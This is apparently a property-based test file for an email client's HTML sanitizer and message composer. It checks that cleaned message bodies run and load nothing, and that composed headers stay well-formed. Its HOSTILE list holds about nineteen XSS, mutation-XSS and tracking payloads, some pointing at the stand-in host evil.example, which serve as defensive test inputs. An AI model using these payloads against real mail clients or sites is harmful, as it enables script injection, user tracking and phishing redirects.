import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5';
import { htmlProblem } from '@kiraku/core/message';
import { composeCopy } from '@kiraku/server/messages/compose';
import { cleanBody, isEmptyBody, leavingBody, bodyText } from '@kiraku/server/messages/messageBody';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<p style="background:url(https://evil.example/spy)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<form action="https://evil.example"><input name=x></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p>Dear <b>Marit</b></p>',
  '<ul><li>felt</ul>',
];
const messages = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string()), { maxLength: 8 })
  .map((pieces) => pieces.join(''));

function* elements(node: Tree.ParentNode): Generator<Tree.Element> {
  for (const child of node.childNodes) {
    if (!('tagName' in child)) continue;
    yield child;
    yield* elements(child);
  }
}

test('whatever is written, a cleaned message runs nothing and loads nothing', () => {
  fc.assert(
    fc.property(messages, (html) => {
      // What would take too long to parse is refused before.
      const kept = htmlProblem(html) === null ? [cleanBody(html)] : [];
      for (const { tagName, attrs } of [leavingBody(html), ...kept].flatMap((one) => [...elements(parse(one))])) {
        expect([
          'script',
          'style',
          'iframe',
          'svg',
          'math',
          'form',
          'input',
          'meta',
          'base',
          'link',
          'img',
        ]).not.toContain(tagName);
        for (const { name, value } of attrs) {
          expect(name).not.toMatch(/^on|^src|^srcdoc|^action/);
          if (name === 'href') expect(value).toMatch(/^(https?|mailto|tel):/i);
          if (name === 'style') expect(value).not.toMatch(/url|expression|import/i);
        }
      }
    }),
    { numRuns: 1000 },
  );
});

test('a message as the editor writes it is left as it is', () => {
  const words = fc.stringMatching(/^[A-Za-z0-9 ,.é気]{1,20}$/);
  const inline = fc.oneof(
    words,
    fc.tuple(fc.constantFrom('strong', 'em', 'u', 's', 'code'), words).map(([tag, text]) => `<${tag}>${text}</${tag}>`),
    words.map((text) => `<a href="https://tallowreed.example/p?a=1&amp;b=2">${text}</a>`),
  );
  const line = fc.array(inline, { maxLength: 4 }).map((parts) => parts.join(''));
  const block = fc.oneof(
    line.map((text) => `<p>${text}</p>`),
    line.map((text) => `<h2>${text}</h2>`),
    line.map((text) => `<blockquote><p>${text}</p></blockquote>`),
    fc
      .array(line, { minLength: 1, maxLength: 3 })
      .map((items) => `<ul>${items.map((item) => `<li><p>${item}</p></li>`).join('')}</ul>`),
  );
  fc.assert(
    fc.property(fc.array(block), (blocks) => {
      const html = blocks.join('');
      expect(cleanBody(html)).toBe(html);
    }),
  );
});

test.each([
  ['', true],
  ['<p></p><p><br></p>', true],
  ['<p> &nbsp; </p>', true],
  ['<p>x</p>', false],
])('%j is empty: %s', (html, empty) => {
  expect(isEmptyBody(html)).toBe(empty);
});

test('the plain text names lists, quotations and targets', () => {
  const text = bodyText(
    '<h2>Felt</h2><p>See <a href="https://t.example/a">the plan</a> or <a href="https://t.example/b">https://t.example/b</a>.</p><ul><li>one</li><li>two</li></ul>',
  );
  expect(text).toContain('the plan <https://t.example/a>');
  expect(text).toContain('or https://t.example/b.');
  expect(text).toMatch(/\* one\s+\* two/);
});

const LONG = 'Grüße, 気楽; '.repeat(40).trim();

test('whatever stands in names and subjects, headers stay what they are, and everything comes back as it was', async () => {
  const line = fc.string({ unit: 'grapheme', maxLength: 80 }).filter((text) => !/[\p{Cc}\p{Cf}]/u.test(text));
  await fc.assert(
    fc.asyncProperty(line, line, async (subject, name) => {
      const raw = await composeCopy({
        sender: { name, address: 'ines@tallowreed.example' },
        recipients: [
          { kind: 'to', name, address: 'marit@lindqvist.example' },
          { kind: 'bcc', name: 'Hidden', address: 'hidden@lindqvist.example' },
        ],
        subject,
        html: '<p>Grüße, 気楽</p>',
        text: LONG,
        messageId: '<1@tallowreed.example>',
        requestMdn: false,
        conversation: [],
        pictures: [],
        attachments: [],
        date: new Date(0),
        oneClickUrl: null,
        namesBcc: false,
      });
      const head = raw.subarray(0, raw.indexOf('\r\n\r\n')).toString();
      for (const row of head.split('\r\n')) expect(row).toMatch(/^([A-Za-z-]+: |\s)/);
      expect(raw.toString().replace(/\r\n/g, '')).not.toContain('\n');
      const parsed = await simpleParser(raw);
      expect([...parsed.headers.keys()].sort()).toEqual(
        expect.arrayContaining(['content-type', 'date', 'from', 'message-id', 'mime-version', 'to']),
      );
      expect(parsed.headers.has('bcc')).toBe(false);
      expect((parsed.subject ?? '').trim()).toBe(subject.trim());
      expect(parsed.from?.value).toHaveLength(1);
      expect(parsed.from?.value[0]?.address).toBe('ines@tallowreed.example');
      expect(String(parsed.html)).toContain('Grüße, 気楽');
      expect(parsed.text?.trim()).toBe(LONG);
    }),
    { numRuns: 150 },
  );
});
